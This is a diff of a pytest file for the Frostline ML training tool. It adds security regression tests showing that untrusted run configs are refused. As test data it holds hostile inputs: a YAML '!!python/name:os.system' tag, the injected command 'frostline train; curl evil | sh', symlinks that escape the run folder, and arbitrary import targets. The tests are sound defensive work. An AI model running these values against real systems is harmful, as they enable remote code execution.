@@ -98,7 +98,7 @@ def test_code_that_a_run_names_needs_trust(kind: str, command: str, run: Path, p
     (run.parent / "it.png").write_bytes(b"")
     answer = program(*commands(run)[command])
     assert answer.code == 1
-    assert "opening this run would do more than Frostline does by itself:" in answer.err, answer.err
+    assert "names code or output folders that are not Frostline's:" in answer.err, answer.err
     assert place.rpartition("._")[0] in answer.err
     assert f"frostline {command} {commands(run)[command][1]}" in answer.err
     assert "trust=true" in answer.err
@@ -212,9 +212,9 @@ def test_a_class_is_known_by_where_it_is_defined() -> None:
 
 WHOLE = "model: {}\ndata: {}\ntask: {}\nrun_dir: run"
 BAD_FILES = {
-    "empty": ("", "it says nothing of data, model, run_dir, task"),
+    "empty": ("", "it lacks the keys data, model, run_dir, task"),
     "a list": ("[1, 2]", "it holds no settings"),
-    "text": ("hello", "it says nothing of"),
+    "text": ("hello", "it lacks the keys"),
     "no yaml": ("a: [1", ""),
     "aliases": ("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]", "has an alias (*a)"),
     "itself": ("a: &a [*a]", "has an alias (*a)"),
@@ -223,7 +223,7 @@ BAD_FILES = {
     "twice": ("a: 1\na: 2", ""),
     "large": ("a: " + "x" * 1_000_001, "more than 1,000,000 bytes"),
     "environment": (f"{WHOLE}\na: ${{oc.env:HOME}}", "a: ${oc.env:HOME}"),
-    "environment in a key": (f"{WHOLE}\na:\n  ${{oc.env:HOME}}: 1", "holds a reference"),
+    "environment in a key": (f"{WHOLE}\na:\n  ${{oc.env:HOME}}: 1", "contains an interpolation"),
     "environment in a list": (f"{WHOLE}\na: [{{b: 'x${{oc.env:HOME}}'}}]", "a[0].b"),
     "no text": ("\udcff", ""),
 }
@@ -244,3 +244,103 @@ def test_a_pipe_or_a_missing_file_is_no_config(tmp_path: Path) -> None:
     for name in ("config.yaml", "missing"):
         with pytest.raises(RunError, match="no such file"):
             read_settings(tmp_path / name)
+
+
+# --- what a review found ---
+
+
+@pytest.mark.parametrize(
+    "tag",
+    ["!!python/object/apply:pathlib.PosixPath [/tmp/elsewhere]", "!!binary aGVsbG8=", "!!python/name:os.system ''"],
+)
+def test_a_tag_makes_no_object(tag: str, run: Path, program: Callable[..., Answer]) -> None:
+    text = (run / "config.yaml").read_text()
+    place = next(line for line in text.splitlines() if line.strip().startswith("dirpath: "))
+    (run / "config.yaml").write_text(text.replace(place, f"{place.partition(':')[0]}: {tag}", 1))
+    answer = program("train", f"resume={run}")
+    assert answer.code == 1
+    assert "config.yaml contains an object" in answer.err or "configuration cannot be read" in answer.err
+
+
+@pytest.mark.parametrize("value", ["$HOME/it", "file:///tmp/it", "sftp://host/it"])
+def test_a_place_that_its_reader_expands_is_listed(value: str, run: Path, program: Callable[..., Answer]) -> None:
+    amend(run, "logger.save_dir", value)
+    answer = program("train", f"resume={run}")
+    assert answer.code == 1
+    assert f"logger.save_dir: writes to {value}" in answer.err
+
+
+@pytest.mark.parametrize("name", ["tensorboard", "checkpoints", "other", "checkpoints/last.ckpt"])
+def test_a_link_out_of_the_run_is_listed_whatever_the_config_says(
+    name: str, run: Path, program: Callable[..., Answer], tmp_path: Path
+) -> None:
+    amend(run, "callbacks", {"best": {"_target_": "frostline.callbacks.checkpoints.PlacedCheckpoint"}})
+    (tmp_path / "elsewhere").mkdir()
+    if (run / name).is_dir():
+        shutil.rmtree(run / name)
+    (run / name).unlink(missing_ok=True)
+    (run / name).symlink_to(tmp_path / "elsewhere")
+    answer = program("train", f"resume={run}")
+    assert answer.code == 1
+    assert f"{name}: leads to {tmp_path / 'elsewhere'}" in answer.err
+
+
+def test_scoring_a_run_downloads_no_data_to_where_it_says(run: Path, tmp_path: Path) -> None:
+    settings = {"data": {"_target_": "frostline.data.cifar.Cifar", "dir": str(tmp_path / "anywhere")}}
+    assert foreign(settings, run) == [f"data.dir: downloads to {tmp_path / 'anywhere'}"]
+    (tmp_path / "anywhere").mkdir()
+    assert foreign(settings, run) == []
+
+
+def test_a_cache_of_the_run_is_not_used_to_score_it(run: Path, program: Callable[..., Answer], tmp_path: Path) -> None:
+    amend(run, "cache.dir", str(tmp_path / "elsewhere"))
+    answer = program("evaluate", f"run={run}")
+    assert answer.code == 0, answer.err
+    assert not (tmp_path / "elsewhere").exists()
+
+
+def test_what_a_run_chose_for_itself_is_a_number_when_it_is_taken_up(
+    run: Path, program: Callable[..., Answer], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.syspath_prepend(str(tmp_path))
+    amend(run, "data.batch_size", [{"_target_": evil(tmp_path)}])
+    answer = program("train", *QUICK, "data.batch_size=auto", "requeue=true", f"run_dir={run}")
+    assert answer.code == 1
+    assert "has no number for data.batch_size" in answer.err
+    assert not (tmp_path / "ran").exists()
+
+
+@pytest.mark.parametrize("target", ["__main__.X", "evil_of_a_stranger.Linear", "torch", "", "...", "a b.C"])
+def test_targets_of_any_text_are_refused_in_words(
+    target: str, run: Path, program: Callable[..., Answer], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    evil(tmp_path)
+    module = tmp_path / "evil_of_a_stranger.py"
+    module.write_text(module.read_text() + "from frostline.heads import LinearHead as Linear\n")
+    monkeypatch.syspath_prepend(str(tmp_path))
+    amend(run, "head._target_", target)
+    answer = program("evaluate", f"run={run}")
+    assert answer.code == 1
+    assert f"head: runs {target}" in answer.err
+    assert not (tmp_path / "ran").exists()
+
+
+def test_a_run_of_before_opens_without_trust(run: Path, program: Callable[..., Answer]) -> None:
+    before = {"callbacks": {"best": {"_target_": "lightning.pytorch.callbacks.ModelCheckpoint"}}}
+    assert foreign(before, run) == []
+    amend(run, "side", 8)  # a helper of one's own, which commands of today refuse
+    settings = yaml.safe_load((run / "config.yaml").read_text())
+    del settings["trust"]
+    (run / "config.yaml").write_text(yaml.safe_dump(settings))
+    answer = program("train", f"resume={run}")
+    assert answer.code == 0, answer.err
+
+
+def test_the_command_of_a_record_is_no_text_to_paste(run: Path, program: Callable[..., Answer]) -> None:
+    record = json.loads((run / "run.json").read_text())
+    (run / "run.json").write_text(json.dumps(record | {"command": "frostline train; curl evil | sh"}))
+    (run / "checkpoints" / "last.ckpt").unlink()
+    answer = program("train", f"resume={run}")
+    assert answer.code == 1
+    assert "next:  frostline train ... init_from=" in answer.err or "'train;'" in answer.err
+    assert "curl evil | sh" not in answer.err
